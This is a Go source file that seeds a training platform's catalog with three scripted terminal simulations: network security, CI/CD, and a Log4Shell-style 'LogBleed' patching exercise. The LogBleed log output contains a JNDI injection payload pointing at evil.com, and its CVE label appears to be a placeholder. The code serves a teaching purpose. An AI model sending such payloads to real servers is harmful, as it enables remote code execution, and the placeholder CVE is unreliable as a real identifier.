package catalog

import (
	"go.uber.org/zap"

	"github.com/GriffinCanCode/ZeroHub/backend/internal/domain/terminal"
)

const builtinSource = "builtin"

// Builtin returns the simulations that ship with the hub
func Builtin() []Entry {
	return []Entry{
		{
			ID:          "net-sec-101",
			Title:       "Network Security Fundamentals",
			Kind:        KindAcademy,
			Description: "Learn to identify and mitigate common network vulnerabilities in our simulated lab.",
			Path:        "Cybersecurity Path",
			Objectives: []string{
				"Understand the OSI model",
				"Identify common attack vectors",
				"Implement basic firewall rules",
			},
			Simulation: terminal.Script{
				Scenario: "A small business network is experiencing unusual traffic. Investigate and secure the perimeter.",
				Steps: []terminal.Step{
					{Pattern: "help", Output: terminal.Output{"Available commands:", "scan <ip>", "firewall --add-rule <rule>", "exit"}},
					{Pattern: "scan 192.168.1.10", Output: terminal.Output{"Scanning... Found open ports: 22 (SSH), 80 (HTTP), 8080 (Unknown)"}},
					{Pattern: `firewall --add-rule "DENY ALL INBOUND ON 8080"`, Output: terminal.Output{"Rule added. Port 8080 is now blocked."}},
				},
			},
		},
		{
			ID:          "devops-intro",
			Title:       "Introduction to CI/CD",
			Kind:        KindAcademy,
			Description: "Master the basics of continuous integration and deployment with automated pipelines.",
			Path:        "DevOps Path",
			Objectives: []string{
				"Set up a git repository",
				"Create a simple build script",
				"Deploy an application automatically",
			},
			Simulation: terminal.Script{
				Scenario: "Configure a CI/CD pipeline for a sample web application.",
				Steps: []terminal.Step{
					{Pattern: "help", Output: terminal.Output{"Available commands:", "git <...>", "ci-script-edit", "ci-script-run", "exit"}},
					{Pattern: "ci-script-run", Output: terminal.Output{"Running pipeline... Build successful. Deployment to staging complete."}},
				},
			},
		},
		{
			ID:          "logbleed",
			Title:       "LogBleed",
			Kind:        KindVulnerability,
			Description: "A critical remote code execution vulnerability in a common logging library.",
			CVE:         "CVE-2024-1337",
			Severity:    "Critical",
			Simulation: terminal.Script{
				Scenario: "An attacker is attempting to exploit the LogBleed vulnerability on your web server. Patch the system.",
				Steps: []terminal.Step{
					{Pattern: "help", Output: terminal.Output{"Available commands:", "view_logs", "patch <package_name>", "exit"}},
					{Pattern: "view_logs", Output: terminal.Output{"...[INFO] User-Agent: ${jndi:ldap://evil.com/a}..."}},
					{Pattern: "patch logger-core", Output: terminal.Output{"Patching logger-core to version 2.17.1... Success. Vulnerability mitigated."}},
				},
			},
		},
	}
}

// Seed installs the built-in simulations
func (c *Catalog) Seed() error {
	for _, entry := range Builtin() {
		entry.Source = builtinSource
		if err := c.Add(entry); err != nil {
			return err
		}
	}
	c.logger.Info("Seeded built-in simulations", zap.Int("count", len(Builtin())))
	return nil
}
